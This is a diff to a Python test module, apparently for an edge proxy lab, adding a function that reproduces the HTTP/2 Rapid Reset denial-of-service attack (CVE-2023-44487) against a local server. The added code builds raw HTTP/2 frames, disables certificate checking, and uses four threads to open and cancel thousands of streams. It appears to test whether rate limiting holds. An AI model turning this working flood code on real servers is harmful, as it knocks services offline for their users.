@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import socket
+import ssl
 import subprocess
 import threading
 import time
@@ -16,8 +17,15 @@ from tests.support.edge_lab import (
     Server,
     StubBingo,
     ask,
+    certificate,
     configure,
 )
+
+STREAMS, LONGEST = 50, 2000
+"""Streams that are sent in one write, and on one connection."""
+HEADERS = b"\x82\x87\x41\x01a\x44\x06/reset"
+"""HPACK (RFC 7541) of GET, https, authority "a" and path "/reset"."""
+CANCEL = (8).to_bytes(4)
 
 
 def slow_and_huge_requests() -> Result:
@@ -134,6 +142,52 @@ def quic_first_packets(rate: int) -> Result:
                     datagrams.sendto(bytes([first]) + b"a" * 100, ("127.0.0.1", 443))
         result[f"{first:x}"] = dropped()
     return result
+
+
+def rapid_resets(rate: int, seconds: float) -> Result:
+    """Let four threads of a client open streams of HTTP/2 and reset each at once, as CVE-2023-44487 has it."""
+    Server("balancer", "127.0.0.2", 81)
+    configure(SETTINGS | {"client_rate": rate, "secrets": {"certificate": certificate()}})
+    end = time.monotonic() + seconds
+    resets: list[int] = []
+
+    def attack() -> None:
+        while time.monotonic() < end:
+            resets.append(_reset_streams(end))
+
+    attackers = [threading.Thread(target=attack) for _ in range(4)]
+    for attacker in attackers:
+        attacker.start()
+    others: list[list[float]] = []
+    while time.monotonic() < end:
+        began = time.monotonic()
+        others.append([ask("/ping", client="127.0.0.3")[0], time.monotonic() - began])
+        time.sleep(0.1)
+    for attacker in attackers:
+        attacker.join()
+    time.sleep(1.5)
+    reached = StubBingo.requests.count("balancer GET /reset")
+    counts = {"refused": _statuses().count(429) * 100, "passed": _statuses().count(499), "reached": reached}
+    return {"sent": sum(resets), "connections": len(resets), "others": others, **counts}
+
+
+def _reset_streams(end: float) -> int:
+    """Open and reset streams on a connection of its own; returns how many."""
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    sent = 0
+    with suppress(OSError), context.wrap_socket(socket.create_connection(("127.0.0.1", 443), 5)) as connection:
+        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
+        while time.monotonic() < end and sent < LONGEST:
+            streams = range(2 * sent + 1, 2 * sent + 1 + 2 * STREAMS, 2)
+            connection.sendall(b"".join(_frame(1, 5, each, HEADERS) + _frame(3, 0, each, CANCEL) for each in streams))
+            sent += STREAMS
+    return sent
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload
 
 
 def _connect(text: bytes) -> socket.socket:
